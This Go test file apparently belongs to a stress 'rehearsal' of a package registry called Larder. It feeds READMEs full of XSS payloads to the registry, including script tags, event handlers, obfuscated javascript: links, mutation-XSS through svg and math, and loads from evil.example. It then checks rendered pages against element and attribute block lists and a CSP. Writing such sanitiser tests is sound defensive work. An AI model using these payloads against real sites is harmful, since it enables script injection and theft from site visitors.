package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"maps"
	"math/rand/v2"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/html"
)

// This file has READMEs and descriptions that attack the pages that display them, and clients that read those pages.

const readmeFile = "README.md"

// readmeMarker returns a word of a release's README, which its page must display.
func readmeMarker(pkg, version string) string {
	return "readme-of-" + pkg + "-" + strings.ReplaceAll(version, ".", "-")
}

// hostileDescription is the description of every package.
const hostileDescription = `A part of the rehearsal. "><script>alert(1)</script><img src=x onerror=alert(1)></title></head><body onload='alert(1)'> [x](javascript:alert(1)) <!--`

// A hostileReadme is a kind of README.
type hostileReadme struct {
	name string
	text func() string
	// plain is whether Larder may refuse to format it, and display its text instead.
	plain bool
}

var hostileReadmes = []hostileReadme{
	{"scripts", func() string { return hostileScripts }, false},
	{"links", hostileLinks, false},
	{"broken HTML", func() string { return hostileHTML }, false},
	{"a huge table", hugeTable, true},
	{"nested", nested, true},
	{"unusual bytes", func() string { return unusualBytes }, false},
}

const hostileScripts = `
<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><script type=module>import "https://evil.example/m.js"</script>
<img src=x onerror=alert(1)> <img src="https://evil.example/pixel.gif"> ![picture](https://evil.example/p.png "title")
<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<math href="javascript:alert(1)"><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe><object data="javascript:alert(1)"></object><embed src="data:text/html,x">
<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">go</button></form>
<details open ontoggle=alert(1)><summary onclick="alert(1)">more</summary>text</details>
<b onmouseover="alert(1)" style="position:fixed;inset:0;background:url(https://evil.example/b)" id=content class=masthead>bold</b>
<style>body{display:none}@import url(https://evil.example/c.css);</style><link rel=stylesheet href="https://evil.example/c.css">
<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">
<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<video src=x onerror=alert(1) autoplay></video><audio src=x onerror=alert(1)></audio><marquee onstart=alert(1)>m</marquee><body onload=alert(1)>
`

// hostileLinks returns links to script in the ways that browsers and Markdown have.
func hostileLinks() string {
	var b strings.Builder
	for i, to := range []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)",
		"&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&#58;alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "DATA:text/html;base64,PHNjcmlwdD4=",
		"blob:https://evil.example/1", "file:///etc/passwd", "view-source:https://evil.example", "intent://x#Intent;end", "//evil.example/x", "https:javascript:alert(1)", "\\\\evil.example\\x", "javascript://%0aalert(1)", "feed:javascript:alert(1)",
	} {
		fmt.Fprintf(&b, "[one](%s) [two](<%s>) [three][r%d] <%s> <a href=\"%s\">four</a> <a href='%s' target=_top>five</a> <area href=\"%s\">\n\n[r%d]: <%s> \"title\"\n\n", to, to, i, to, to, to, to, i, to)
	}
	return b.String()
}

const hostileHTML = `
</div></details></section></main></body></html><footer class="footer">not the page's</footer><main id="content">another</main><h1>not the page's</h1>
<table><tr><td><div><p><ul><li><b><i><a href="https://a.example"><a href="https://b.example"><blockquote>
</td></p></table></ul><!-- a comment --!><script>alert(1)</script> --> <![CDATA[ <script>alert(1)</script> ]]> <?php echo 1 ?> <!DOCTYPE html [<!ENTITY x "y">]>
<p title="<!--"> <img alt="<script>alert(1)</script>" src=x> <a href="x" title='"><script>alert(1)</script>'>x</a> <<b>> </ b> <b/onclick=alert(1)> <b
onclick=alert(1)> &lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; <scr<script>ipt>alert(1)</scr</script>ipt>
<select><option><script>alert(1)</script></select><textarea></main><script>alert(1)</script></textarea><title></title><script>alert(1)</script>
<xmp><script>alert(1)</script></xmp><frameset><frame src="javascript:alert(1)"></frameset>
~~~html"><script>alert(1)</script>
<script>alert(1)</script>
~~~
<plaintext><script>alert(1)</script>
<!-- never closed <script>alert(1)</script>
`

// hugeTable returns a table of more cells than any page should have, longer than what Larder stores of a README.
func hugeTable() string {
	return strings.Repeat("|a", 500) + "|\n" + strings.Repeat("|-", 500) + "|\n" + strings.Repeat("|<b onclick=alert(1)>x\n", 4000)
}

// nested returns elements in each other, and runs of characters on which parsers of Markdown work long.
func nested() string {
	return strings.Repeat("<div><b>", 1500) + "\n\n" + strings.Repeat("> ", 90) + "deep\n\n" + strings.Repeat("*a_", 3000) + "\n\n" + strings.Repeat("[", 900) + "a" + strings.Repeat("](", 900) + "\n\n" +
		strings.Repeat("`", 900) + "\n" + strings.Repeat("![x](<", 2000) + "\n\n" + strings.Repeat("<a href=\"", 2000) + "\n"
}

const unusualBytes = "\x00\x01\x08\xff\xfe\xc0\xaf \u202etxet desrever\u2066 \ufeff <scr\x00ipt>alert(1)</scr\x00ipt> <b on\x00click=alert(1)>x</b> \u2028 \u2029 +ADw-script+AD4-\r\r\n" +
	"<a href=\"java\x00script:alert(1)\">x</a> [y](java\x00script:alert(1)) \xed\xa0\x80 \xf4\x90\x80\x80 <b\x0conclick=alert(1)>z</b>\n"

// readmeOf returns which kind of README a release has, nil for one that is not hostile. It follows from the version.
func readmeOf(version string) *hostileReadme {
	var major, minor int
	_, _ = fmt.Sscanf(version, "%d.%d", &major, &minor)
	i := minor % (len(hostileReadmes) + 1)
	if i == len(hostileReadmes) || hostileReadmes[i].plain && (major > 1 || minor > i) {
		return nil // those that may be refused take a renderer ten seconds, so each package has one
	}
	return &hostileReadmes[i]
}

// readmeContent returns the README of a release: a heading, a paragraph with its marker, and the hostile part.
func readmeContent(pkg, version string) []byte {
	hostile := "Nothing hostile.\n"
	if kind := readmeOf(version); kind != nil {
		hostile = kind.text()
	}
	return fmt.Appendf(nil, "# %s\n\n%s\n\n%s", pkg, readmeMarker(pkg, version), hostile)
}

// mostPage is how many bytes a release's page may have: a README's limit is 512 KiB.
const mostPage = 1 << 20

// A libraryPage is the page of a release as a client got it.
type libraryPage struct {
	release *release
	header  http.Header
	body    []byte
	readme  string // its markup in the page
	plain   bool   // whether it is displayed as text
}

// judge returns an error unless the page has the README's marker, and nothing of what the README or description must not add:
// scripts, event handlers, styles, frames, links to script, and elements outside of the README's own.
func (l *libraryPage) judge() error {
	wrong := func(format string, args ...any) error {
		return errClaim{wrongBytes, fmt.Sprintf("the page of %v: ", l.release) + fmt.Sprintf(format, args...)}
	}
	policy := l.header.Get("Content-Security-Policy")
	switch {
	case len(l.body) > mostPage:
		return wrong("%d bytes", len(l.body))
	case !strings.Contains(policy, "default-src 'none'") || !strings.Contains(policy, "script-src 'self'") || strings.Contains(policy, "unsafe"):
		return wrong("Content-Security-Policy is %q", policy)
	}
	document, err := html.Parse(bytes.NewReader(l.body))
	if err != nil {
		return wrong("%v", err)
	}
	for n := range document.Descendants() {
		if what := forbiddenInPage(n); what != "" {
			return wrong("%s", what)
		}
	}
	text, what := l.checkFrame(document)
	if what == "" && !strings.Contains(textOf(text), readmeMarker(l.release.pkg, l.release.version)) {
		what = "the README's words are missing"
	}
	if what != "" {
		return wrong("%s", what)
	}
	var b strings.Builder
	for n := text.FirstChild; n != nil; n = n.NextSibling {
		if err := html.Render(&b, n); err != nil {
			return wrong("%v", err)
		}
	}
	first := text.FirstChild
	l.readme, l.plain = b.String(), first != nil && first.Data == "pre" && first.NextSibling == nil
	return nil
}

// checkFrame returns the element with the README, and what is wrong with the page around it or with the elements in it.
func (l *libraryPage) checkFrame(document *html.Node) (text *html.Node, wrong string) {
	count := map[string]int{}
	for n := range document.Descendants() {
		switch class := attribute(n, "class"); {
		case n.Type != html.ElementNode:
		case n.Namespace == "" && (n.Data == "main" || n.Data == "h1" || n.Data == "title" || n.Data == "footer"): // charts have titles, too
			count[n.Data]++
			if n.Data == "footer" && (n.Parent.Data != "body" || class != "footer") {
				return nil, "the page's footer is not at its place"
			}
		case class == "readme-text":
			count[class]++
			text = n
		}
	}
	for _, name := range []string{"main", "h1", "title", "footer", "readme-text"} {
		if count[name] != 1 {
			return nil, fmt.Sprintf("%d times %s", count[name], name)
		}
	}
	for n := range text.Descendants() {
		if what := forbiddenInReadme(n); what != "" {
			return nil, what
		}
	}
	for n := text; n.Data != "main"; n = n.Parent {
		if n.Parent == nil {
			return nil, "the README is outside of main"
		}
	}
	return text, ""
}

// outside are elements that no page of a release has.
var outside = []string{"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "math", "marquee", "plaintext", "xmp", "template", "portal", "audio", "video", "foreignobject"}

// addressAttributes are those whose values browsers load or follow.
var addressAttributes = []string{"href", "src", "action", "formaction", "data", "poster", "cite", "background", "xlink:href", "ping", "manifest", "srcset"}

// forbiddenInPage says why an element must not be on any page, "" if it may.
func forbiddenInPage(n *html.Node) string {
	if n.Type != html.ElementNode {
		return ""
	}
	if slices.Contains(outside, strings.ToLower(n.Data)) {
		return "there is a <" + n.Data + ">"
	}
	if n.Data == "script" && (n.FirstChild != nil || !strings.HasPrefix(attribute(n, "src"), "/") || strings.HasPrefix(attribute(n, "src"), "//")) {
		return fmt.Sprintf("there is a script: src=%q, %.80q", attribute(n, "src"), textOf(n))
	}
	if (n.Data == "meta" || n.Data == "link") && n.Parent.Data != "head" {
		return "there is a <" + n.Data + "> outside of the head"
	}
	if n.Data == "meta" && attribute(n, "http-equiv") != "" {
		return "there is a <meta http-equiv>"
	}
	for _, a := range n.Attr {
		key := strings.ToLower(a.Key)
		if strings.HasPrefix(key, "on") || key == "srcdoc" || key == "style" && n.Namespace == "" {
			return fmt.Sprintf("<%s> has %s=%.80q", n.Data, a.Key, a.Val)
		}
		if slices.Contains(addressAttributes, key) && !harmlessAddress(a.Val) {
			return fmt.Sprintf("<%s> leads to %.80q", n.Data, a.Val)
		}
	}
	return ""
}

// harmlessAddress reports whether an address, as browsers read it, is one of the web or of mail.
func harmlessAddress(address string) bool {
	address = strings.Map(func(r rune) rune {
		if r <= ' ' || r == '\u007f' || r == '\ufffd' {
			return -1
		}
		return r
	}, address)
	u, err := url.Parse(address)
	if err != nil { // browsers forgive more than url.Parse: the scheme counts
		scheme, _, found := strings.Cut(address, ":")
		return !found || strings.EqualFold(scheme, "https") || strings.EqualFold(scheme, "http")
	}
	return slices.Contains([]string{"", "https", "http", "mailto"}, strings.ToLower(u.Scheme))
}

// readmeElements are those that a README may have in a page.
var readmeElements = []string{"p", "br", "hr", "ul", "ol", "li", "blockquote", "code", "kbd", "samp", "var", "em", "strong", "b", "i", "s", "del", "ins", "sub", "sup",
	"table", "thead", "tbody", "tr", "th", "td", "dl", "dt", "dd", "details", "summary", "abbr", "small", "a", "pre", "h3", "h4", "h5", "h6"}

// forbiddenInReadme says why a node must not be in a README, "" if it may.
func forbiddenInReadme(n *html.Node) string {
	switch n.Type {
	case html.TextNode:
		return ""
	case html.ElementNode:
	default:
		return fmt.Sprintf("the README has a comment: %.80q", n.Data)
	}
	if n.Namespace != "" || !slices.Contains(readmeElements, n.Data) {
		return "the README has a <" + n.Data + ">"
	}
	for _, a := range n.Attr {
		switch {
		case a.Key == "id" && strings.HasPrefix(a.Val, "readme-"), a.Key == "tabindex" && n.Data == "pre":
		case n.Data == "a" && (a.Key == "href" || a.Key == "rel"):
			if !strings.Contains(attribute(n, "rel"), "nofollow") {
				return fmt.Sprintf("the README has a link that search engines follow: %.80q", a.Val)
			}
		default:
			return fmt.Sprintf("<%s> of the README has %s=%.80q", n.Data, a.Key, a.Val)
		}
	}
	return ""
}

func attribute(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func textOf(n *html.Node) string {
	var b strings.Builder
	for d := range n.Descendants() {
		if d.Type == html.TextNode {
			b.WriteString(d.Data)
		}
	}
	return b.String()
}

// fetchPage fetches and judges the page of a release.
func fetchPage(ctx context.Context, t http.RoundTripper, e *entrance, r *release) (*libraryPage, error) {
	response, body, err := get(ctx, t, e.url+"/library/"+r.pkg+"/"+r.version, nil)
	if err != nil {
		return nil, err
	}
	if response.StatusCode != http.StatusOK {
		return nil, errStatus(response.StatusCode)
	}
	l := &libraryPage{release: r, header: response.Header, body: body}
	return l, l.judge()
}

// pagePause is the time between two pages that a reader requests: pages cost more than files.
const pagePause = 500 * time.Millisecond

// readers runs a client that reads pages of releases at each entrance until ctx ends.
func (p *play) readers(ctx context.Context) {
	p.runClients(ctx, 3000, pagePause, func(t *http.Transport, e *entrance, random *rand.Rand) func() {
		return func() { p.readPage(ctx, t, e, random) }
	})
}

// readPage fetches the page of a random release, and notes the outcome.
func (p *play) readPage(ctx context.Context, t http.RoundTripper, e *entrance, random *rand.Rand) {
	live := p.library.live(0, e.behind...)
	if len(live) == 0 {
		return
	}
	r := live[rand.NewZipf(random, zipfS, 1, uint64(len(live)-1)).Uint64()]
	begun := time.Now()
	l, err := fetchPage(ctx, t, e, r)
	if ctx.Err() != nil {
		return
	}
	var status errStatus
	if withdrawn, _ := p.library.state(r); !withdrawn.IsZero() && errors.As(err, &status) && (status == http.StatusGone || status == http.StatusNotFound) {
		err = nil
	}
	if err != nil {
		err = fmt.Errorf("/library/%s/%s: %w", r.pkg, r.version, err)
	}
	p.notes.request(e.name, begun, err)
	if l != nil && err == nil {
		p.pages.Add(1)
	}
}

// judgePages waits until each entrance displays one README of each kind, formatted if Larder does not refuse it, and compares
// them between entrances.
func (p *play) judgePages(ctx context.Context) check {
	const name = "pages of releases with hostile READMEs have nothing of theirs but text, the same at each entrance"
	var wrong, said []string
	live := p.library.choose(func(r *release, served map[string]time.Time) bool {
		return r.withdrawn.IsZero() && !r.poisoned && len(served) > 0
	})
	for i := range hostileReadmes {
		kind := &hostileReadmes[i]
		at := slices.IndexFunc(live, func(r *release) bool { return readmeOf(r.version) == kind })
		if at < 0 {
			continue // too short a rehearsal
		}
		form, faults := p.compareReadmes(ctx, live[at], kind)
		wrong = append(wrong, faults...)
		said = append(said, kind.name+" "+form)
	}
	if len(said) == 0 {
		wrong = append(wrong, "no release has a hostile README")
	}
	if p.pages.Load() == 0 {
		wrong = append(wrong, "no reader got a page")
	}
	return verdict(name, fmt.Sprintf("%d pages, and at the end %s", p.pages.Load(), strings.Join(said, ", ")), wrong)
}

// compareReadmes fetches the page of a release at each entrance, until each displays its README formatted or may refuse to, and
// returns in which form they do.
func (p *play) compareReadmes(ctx context.Context, r *release, kind *hostileReadme) (form string, wrong []string) {
	var first *libraryPage
	form = "formatted"
	for _, e := range p.entrances {
		if e.h2 {
			continue
		}
		t := p.transport(e)
		var l *libraryPage
		var err error
		waitErr := eventually(ctx, e.name+" displays the README of "+r.String(), func() bool {
			l, err = fetchPage(ctx, t, e, r)
			return err == nil && (kind.plain || !l.plain) || err != nil && causeOf(err) == wrongBytes
		})
		t.CloseIdleConnections()
		switch {
		case waitErr != nil || err != nil:
			wrong = append(wrong, fmt.Sprintf("%s, %s: %v", e.name, kind.name, errors.Join(waitErr, err)))
			continue
		case l.plain:
			form = "as text"
		}
		if first == nil {
			first = l
		}
		if l.plain == first.plain && l.readme != first.readme {
			wrong = append(wrong, fmt.Sprintf("%s, %s: another README of %v than at the first entrance", e.name, kind.name, r))
		}
	}
	return form, wrong
}

// mostMemory is how much resident memory a process may have: the largest cache that reload sets, the default of sending, memory
// and store-cache of soundConfig, and 128 MiB (docs/operating.md). Renderers are processes of their own.
const mostMemory = (56 + 256 + 128 + 16 + 128) << 20

// judgeMemory compares the most resident memory that each process had with its limit.
func (n *notes) judgeMemory() check {
	var wrong, said []string
	for _, process := range slices.Sorted(maps.Keys(n.samples)) {
		var most int64
		for _, s := range n.samples[process] {
			most = max(most, s.Memory)
		}
		said = append(said, fmt.Sprintf("%s %d", process, most>>20))
		if most > mostMemory {
			wrong = append(wrong, fmt.Sprintf("%s had %d MiB, and may have %d", process, most>>20, mostMemory>>20))
		}
	}
	if len(said) == 0 {
		wrong = append(wrong, "no process was measured")
	}
	return verdict("no process takes more memory than its settings allow", "at most, in MiB: "+strings.Join(said, ", "), wrong)
}
